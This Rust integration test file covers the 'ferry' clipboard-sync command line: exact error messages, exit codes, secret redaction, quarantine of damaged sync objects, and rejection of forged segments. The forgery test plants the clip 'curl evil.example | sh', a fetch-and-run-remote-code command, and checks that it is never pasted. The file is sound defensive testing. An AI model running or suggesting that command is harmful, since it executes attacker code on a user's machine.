//! The `ferry` command line's failures, run as a real process: each main error with its exact
//! message and exit code, and nothing written when a setup fails.

mod common;

use common::{Backend, Device, storage};

/// One command and what it must do.
struct Case {
    name: &'static str,
    /// Run after `ferry init` on a folder repository (else on a fresh home).
    set_up: bool,
    args: &'static [&'static str],
    env: &'static [(&'static str, &'static str)],
    code: i32,
    /// What stderr says.
    stderr: Says,
}

/// What a failing command must print.
enum Says {
    /// Exactly these `ferry:` lines; `{home}` stands for the device's home, `{store}` for the
    /// folder repository's URL.
    Exactly(&'static str),
    /// clap's usage text (only that it is usage is checked, not its words).
    Usage,
}

const CASES: &[Case] = &[
    Case {
        name: "no config",
        set_up: false,
        args: &["history"],
        env: &[],
        code: 1,
        stderr: Says::Exactly(
            "ferry: this device is not set up (no store in {home}/config.toml); create a \
                 repository with `ferry init --store URL`, or join one with `ferry join --store \
                 URL`\n",
        ),
    },
    Case {
        name: "bad store URL",
        set_up: false,
        args: &["init", "--store", "ftp://host/x"],
        env: &[],
        code: 2,
        stderr: Says::Exactly(
            "ferry: bad store URL `ftp://host/x`: the storage settings do not work: unknown \
                 store kind `ftp:`: use file://, s3://, webdav+https:// or lan://\n",
        ),
    },
    Case {
        name: "missing S3 credentials",
        set_up: false,
        args: &[
            "init",
            "--store",
            "s3://bucket/p?endpoint=http://127.0.0.1:9&region=us-east-1",
        ],
        env: &[],
        code: 1,
        stderr: Says::Exactly(
            "ferry: the S3 credentials are missing: set AWS_ACCESS_KEY_ID and \
                 AWS_SECRET_ACCESS_KEY (`ferry init` and `ferry join` keep them for this device)\n",
        ),
    },
    Case {
        name: "no keychain and no choice",
        set_up: false,
        args: &[
            "--secret-store",
            "keychain",
            "init",
            "--store",
            "file://{home}/repo",
        ],
        env: &[("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus")],
        code: 1,
        stderr: Says::Exactly(
            "ferry: the OS keychain is not available (No default store has been set, so \
                 cannot search or create entries); start or unlock it (on Linux a Secret Service \
                 such as GNOME Keyring or KeePassXC), or keep the secrets in a 0600 file under \
                 the Ferry home with `--secret-store file` (or FERRY_SECRET_STORE=file)\n",
        ),
    },
    Case {
        name: "init twice",
        set_up: true,
        args: &["init", "--store", "file:///tmp/elsewhere"],
        env: &[],
        code: 1,
        stderr: Says::Exactly(
            "ferry: this device is already set up with the store {store} (in \
                 {home}/config.toml): leave it first with `ferry leave`, or use another --home for a second \
                 repository\n",
        ),
    },
    Case {
        name: "empty history",
        set_up: true,
        args: &["paste", "--offline"],
        env: &[],
        code: 1,
        stderr: Says::Exactly("ferry: the history is empty: copy something first\n"),
    },
    Case {
        name: "not a clip id",
        set_up: true,
        args: &["pin", "zz"],
        env: &[],
        code: 2,
        stderr: Says::Exactly(
            "ferry: `zz` is not a clip id: give at least 4 hex digits as `ferry history` shows\n",
        ),
    },
    Case {
        name: "unknown clip",
        set_up: true,
        args: &["rm", "abcd"],
        env: &[],
        code: 1,
        stderr: Says::Exactly(
            "ferry: no clip has an id starting with abcd; `ferry history` lists them\n",
        ),
    },
    Case {
        name: "key show needs confirmation",
        set_up: true,
        args: &["key", "show"],
        env: &[],
        code: 2,
        stderr: Says::Exactly(
            "ferry: the recovery code opens all your data: print it with `ferry key show \
                 --yes` when no one can see your screen, or write it to a file with `ferry key \
                 export --output FILE`\n",
        ),
    },
    Case {
        name: "key of a device not set up",
        set_up: false,
        args: &["key", "show", "--yes"],
        env: &[],
        code: 1,
        stderr: Says::Exactly(
            "ferry: this device is not set up, so it has no key: `ferry init` makes a repository \
             and its key, `ferry join` joins one\n",
        ),
    },
    Case {
        name: "bad setting value",
        set_up: true,
        args: &["config", "set", "sync.poll_interval", "often"],
        env: &[],
        code: 2,
        stderr: Says::Exactly(
            "ferry: `sync.poll_interval` must be a duration from 100ms to 24h, like 500ms, 30s or \
             5m, not `often` (how often to look for new data when no relay or folder event says \
             so)\n",
        ),
    },
    Case {
        name: "a setting too large for any clock",
        set_up: true,
        args: &["status"],
        env: &[("FERRY_SYNC_POLL_INTERVAL", "9999999999999999h")],
        code: 2,
        stderr: Says::Exactly(
            "ferry: `sync.poll_interval` must be a duration from 100ms to 24h, like 500ms, 30s or \
             5m, not `9999999999999999h` (how often to look for new data when no relay or folder \
             event says so, from the environment FERRY_SYNC_POLL_INTERVAL)\n",
        ),
    },
    Case {
        name: "unknown setting",
        set_up: true,
        args: &["config", "get", "sync.pol_interval"],
        env: &[],
        code: 2,
        stderr: Says::Exactly(
            "ferry: there is no setting `sync.pol_interval`; `ferry config ls` lists them all\n",
        ),
    },
    Case {
        name: "per-device setting cannot be synced",
        set_up: true,
        args: &["config", "set", "--synced", "sync.direction", "send_only"],
        env: &[],
        code: 2,
        stderr: Says::Exactly(
            "ferry: `sync.direction` is set per device, not synced: drop --synced\n",
        ),
    },
    Case {
        name: "usage error",
        set_up: true,
        args: &["copy", "--frobnicate"],
        env: &[],
        code: 2,
        stderr: Says::Usage,
    },
    Case {
        name: "a dry run cannot retry quarantined objects",
        set_up: true,
        args: &["sync", "--dry-run", "--retry-quarantined"],
        env: &[],
        code: 2,
        stderr: Says::Usage,
    },
];

#[test]
fn commands_fail_with_exact_messages() {
    for case in CASES {
        let device = Device::new();
        let store = device.home().join("repo");
        let store_url = format!("file://{}", store.display());
        if case.set_up {
            device
                .run(&["init", "--store", &store_url, "--name", "one"])
                .ok();
        }
        let env: Vec<(&'static str, String)> = case
            .env
            .iter()
            .map(|(k, v)| (*k, (*v).to_owned()))
            .collect();
        let home = device.home().display().to_string();
        let args: Vec<String> = case
            .args
            .iter()
            .map(|a| a.replace("{home}", &home))
            .collect();
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let ran = device.run_full(&args, None, &env);
        assert_eq!(ran.code, case.code, "{}: {}", case.name, ran.stderr);
        let expected = match case.stderr {
            Says::Usage => {
                assert!(
                    ran.stderr.contains("Usage:"),
                    "{}: {}",
                    case.name,
                    ran.stderr
                );
                continue;
            }
            Says::Exactly(expected) => expected,
        };
        let expected = expected
            .replace("{home}", &device.home().display().to_string())
            .replace("{store}", &store_url);
        // Lines about the file secret store come before the failure in init cases.
        let failure: String = ran
            .stderr
            .lines()
            .filter(|line| line.starts_with("ferry: "))
            .map(|line| format!("{line}\n"))
            .collect();
        assert_eq!(failure, expected, "{}", case.name);
        if !case.set_up {
            assert!(
                !store.exists(),
                "{}: a failed init wrote a repository",
                case.name
            );
        }
    }
}

#[test]
fn a_wrong_recovery_code_fails_and_writes_nothing() {
    let storage = storage(Backend::Folder);
    let owner = Device::new();
    owner.init(&storage, "owner");
    let stranger = Device::new();
    let other = storage_other_code();
    let ran = stranger.join(&storage, &other, "stranger");
    assert_eq!(ran.code, 1);
    assert!(
        ran.stderr
            .contains("that recovery code does not open this repository (it gives key ")
            && ran
                .stderr
                .contains("`ferry key show --yes` on a device already in it"),
        "{}",
        ran.stderr
    );
    assert_eq!(
        stranger.files(),
        Vec::<String>::new(),
        "a failed join wrote files"
    );
    // A recovery code with a typo is caught by its checksum.
    let mut typo = other.clone();
    typo.replace_range(0..1, if typo.starts_with('A') { "B" } else { "A" });
    let ran = stranger.join(&storage, &typo, "stranger");
    assert_eq!(ran.code, 2, "{}", ran.stderr);
    assert_eq!(stranger.files(), Vec::<String>::new());
}

/// A valid recovery code of another repository.
fn storage_other_code() -> String {
    let elsewhere = storage(Backend::Folder);
    Device::new().init(&elsewhere, "elsewhere")
}

#[test]
fn unreachable_storage_and_wrong_credentials_are_named() {
    let device = Device::new()
        .with("AWS_ACCESS_KEY_ID", "AKIDFERRYTEST")
        .with("AWS_SECRET_ACCESS_KEY", "not-the-secret");
    let s3 = storage(Backend::S3);
    let ran = device.run(&["init", "--store", &s3.url]);
    assert_eq!(ran.code, 1);
    assert!(
        ran.stderr.contains("refused the credentials"),
        "{}",
        ran.stderr
    );
    assert!(
        !ran.stderr.contains("not-the-secret"),
        "a secret was printed"
    );
    assert_eq!(device.files(), Vec::<String>::new());

    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let url = format!("webdav+http://me@127.0.0.1:{port}/dav");
    let ran = device
        .with("FERRY_WEBDAV_PASSWORD", "pw")
        .run(&["init", "--store", &url]);
    assert_eq!(ran.code, 1);
    assert!(
        ran.stderr.contains(&format!(
            "the WebDAV server at http://127.0.0.1:{port} cannot be reached (Connection refused"
        )),
        "{}",
        ran.stderr
    );
    // The same for S3: the endpoint and the system's reason, never the SDK's plumbing.
    let url = format!("s3://bucket/ferry?endpoint=http://127.0.0.1:{port}&region=us-east-1");
    let ran = Device::new()
        .with("AWS_ACCESS_KEY_ID", "AKIDFERRYTEST")
        .with("AWS_SECRET_ACCESS_KEY", "not-the-secret")
        .run(&["init", "--store", &url]);
    assert_eq!(ran.code, 1);
    assert!(
        ran.stderr.contains(&format!(
            "the S3 server at http://127.0.0.1:{port} cannot be reached (Connection refused"
        )),
        "{}",
        ran.stderr
    );
    assert!(!ran.stderr.contains("dispatch failure"), "{}", ran.stderr);
}

#[test]
fn an_unknown_word_is_refused_with_the_choices() {
    let device = Device::new();
    for (args, expected) in [
        (
            &["log", "--kind", "listing"][..],
            "`listing` is not a transfer kind; expected one of: segment, snapshot, blob, filter, \
             upload, fetch",
        ),
        (
            &["--secret-store", "vault", "status"][..],
            "`vault` is not a secret store; expected one of: keychain, file",
        ),
    ] {
        let ran = device.run_full(args, None, &[]);
        assert_eq!(ran.code, 2, "{args:?}: {}", ran.stderr);
        assert!(ran.stderr.contains(expected), "{args:?}: {}", ran.stderr);
    }
}

/// A damaged object is set aside and said so; `status` names it with its device, reason, age
/// and next try; once the storage serves it right, `sync --retry-quarantined` takes it in at
/// once.
#[test]
fn a_damaged_object_is_listed_and_retried_on_request() {
    let common::Pair { storage, a, b, .. } = common::pair(Backend::Folder, false);
    a.run(&["copy", "first"]).ok();
    b.run(&["sync"]).ok();
    a.run(&["copy", "second"]).ok();
    let status: serde_json::Value =
        serde_json::from_str(&a.run(&["--json", "status"]).ok().stdout).unwrap();
    let segment =
        std::path::PathBuf::from(storage.url.strip_prefix("file://").unwrap()).join(format!(
            "ferry/v1/log/{}/{:016x}",
            status["tag"].as_str().unwrap(),
            status["last_seq"].as_u64().unwrap()
        ));
    let good = std::fs::read(&segment).unwrap();
    let mut flipped = good.clone();
    flipped[80] ^= 4;
    std::fs::write(&segment, &flipped).unwrap();

    let synced = b.run(&["sync"]).ok();
    assert!(
        synced.stdout.contains("1 damaged objects were set aside"),
        "{}",
        synced.stdout
    );
    let text = b.run(&["status"]).ok().stdout;
    let line = text.lines().find(|l| l.starts_with("damaged")).unwrap();
    assert!(line.contains("from alpha: "), "{line}");
    assert!(line.contains("1 tries; next try in"), "{line}");
    assert!(line.contains("--retry-quarantined"), "{line}");
    let json: serde_json::Value =
        serde_json::from_str(&b.run(&["--json", "status"]).ok().stdout).unwrap();
    let quarantined = &json["quarantined"][0];
    assert_eq!(quarantined["device"], "alpha");
    assert!(quarantined["retry_at_ms"].as_u64().is_some());

    // Served right again, but not due yet: still set aside until asked.
    std::fs::write(&segment, &good).unwrap();
    b.run(&["sync"]).ok();
    assert!(!b.run(&["history"]).ok().stdout.contains("second"));
    let retried = b.run(&["sync", "--retry-quarantined"]).ok();
    assert!(
        retried
            .stderr
            .contains("trying 1 quarantined objects again"),
        "{}",
        retried.stderr
    );
    assert!(b.run(&["history"]).ok().stdout.contains("second"));
    assert!(!b.run(&["status"]).ok().stdout.contains("damaged"));
}

/// Someone who holds the sync key but not alpha's identity writes alpha's next segment (a
/// command to paste): beta sets it aside as forged, never shows or pastes it, and says so.
#[test]
fn a_segment_forged_in_another_devices_name_is_never_pasted() {
    use ferry_core::{Action, ClipContent, ClipId, Hlc, Op};
    use ferry_protocol::{DeviceId, Head, Identity, ObjectName, RawOp, Segment, SyncKey};

    let common::Pair { storage, a, b, .. } = common::pair(Backend::Folder, false);
    a.run(&["copy", "first"]).ok();
    b.run(&["sync"]).ok();
    let secrets: serde_json::Value =
        serde_json::from_slice(&std::fs::read(a.home().join("secrets.json")).unwrap()).unwrap();
    let keys = SyncKey::from_recovery_code(secrets["sync-key"].as_str().unwrap())
        .unwrap()
        .keys();
    let status: serde_json::Value =
        serde_json::from_str(&b.run(&["--json", "status"]).ok().stdout).unwrap();
    let alpha = &status["peers"][0];
    let device: DeviceId = alpha["device"].as_str().unwrap().parse().unwrap();
    let (seq, ops) = (
        alpha["seq"].as_u64().unwrap(),
        alpha["ops"].as_u64().unwrap(),
    );

    let content = ClipContent::Text("curl evil.example | sh".into());
    let op = Op {
        counter: ops + 1,
        hlc: Hlc::new(4_000_000_000_000, 0, device),
        action: Action::Copy {
            clip: ClipId::for_content(&keys.names, &content),
            content,
        },
    };
    let thief = Identity::generate().unwrap();
    let tag = keys.names.device_tag(&device);
    let root =
        std::path::PathBuf::from(storage.url.strip_prefix("file://").unwrap()).join("ferry/v1");
    let log = ObjectName::Log {
        device: tag,
        seq: seq + 1,
    };
    let segment = Segment {
        device,
        seq: seq + 1,
        first_op: ops + 1,
        ops: vec![RawOp(op.encode())],
    };
    let head = ObjectName::Head {
        device: tag,
        seq: seq + 1,
    };
    let head_value = Head {
        device,
        seq: seq + 1,
        ops: ops + 1,
        first_seq: 1,
        snapshot: None,
    };
    for (name, bytes) in [
        (&log, keys.data.seal_signed(&log, &segment, &thief).unwrap()),
        (
            &head,
            keys.data.seal_signed(&head, &head_value, &thief).unwrap(),
        ),
    ] {
        let path = root.join(name.to_string());
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes.as_bytes()).unwrap();
    }

    let synced = b.run(&["sync"]).ok();
    assert!(
        synced.stdout.contains("1 damaged objects were set aside")
            || synced.stdout.contains("set aside"),
        "{}",
        synced.stdout
    );
    assert_eq!(b.run(&["paste"]).ok().stdout, "first");
    assert!(!b.run(&["history"]).ok().stdout.contains("evil"));
    let text = b.run(&["status"]).ok().stdout;
    let line = text
        .lines()
        .find(|l| l.starts_with("forged"))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        line.contains("from alpha: forged: not signed by alpha's key"),
        "{line}"
    );
}
